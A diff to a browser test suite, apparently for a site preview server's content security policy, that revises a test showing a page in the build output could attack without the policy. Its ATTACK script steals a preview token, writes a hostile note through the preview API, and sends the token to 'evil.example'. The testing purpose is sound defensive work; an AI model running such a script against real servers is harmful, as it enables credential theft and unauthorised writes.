@@ -284,15 +284,13 @@ def test_pages_and_scripts_are_sent_as_such_only_where_the_build_writes_them(pat
 ATTACK = """
 (async () => {
   console.log('hostile');
-  window.hostile = 'began';
   const here = location.origin;
   const token = await (await fetch(here + '/_preview/token')).text();
   const headers = {'X-Preview-Token': token, 'Content-Type': 'application/json'};
   const behind = await (await fetch(here + '/_preview/behind/mieten', {headers})).json();
-  const written = await fetch(here + '/_preview/behind/mieten', {method: 'POST', headers, body: JSON.stringify({
+  await fetch(here + '/_preview/behind/mieten', {method: 'POST', headers, body: JSON.stringify({
     do: 'add', kind: 'note', before: '', words: 'DieMietenstiegen.', after: '', at: 0, digests: behind.digests,
     id: 'hostile', values: {kind: 'context', note: 'Geschrieben von einem Bild.'}})});
-  window.hostile = written.status;
   fetch('https://evil.example/' + token, {mode: 'no-cors'});
 })();
 """
@@ -364,14 +362,16 @@ class Visit:
 @pytest.mark.slow
 @pytest.mark.browser
 def test_without_the_policy_a_page_in_the_output_would_write(browser: Browser, tmp_path: Path) -> None:
-    """So that the test after this one is one of the policy, and not of an attack that never works."""
+    """So that the test after this one is one of the policy, and not of an attack that never works.
+
+    Several attack at once, and one of them writes first: whoever sends the token away comes after that.
+    """
     with served(tmp_path) as serving, contextlib.closing(browser.new_context(bypass_csp=True)) as context:
         drop(serving, DROPPED)
         visit = Visit(context.new_page())
-        visit.page.goto(f"http://{serving.own()['Host']}/mieten/")
-        visit.page.wait_for_function("[200, 409].includes(window.hostile)", timeout=PATIENCE * 1000)
+        with visit.page.expect_request(lambda request: serving.preview.token in request.url):
+            visit.page.goto(f"http://{serving.own()['Host']}/mieten/")
         assert "hostile" in (serving.folders.content / "mieten/notes.yaml").read_text(encoding="utf-8")
-        assert any(serving.preview.token in address for address in visit.asked)
 
 
 @pytest.mark.slow
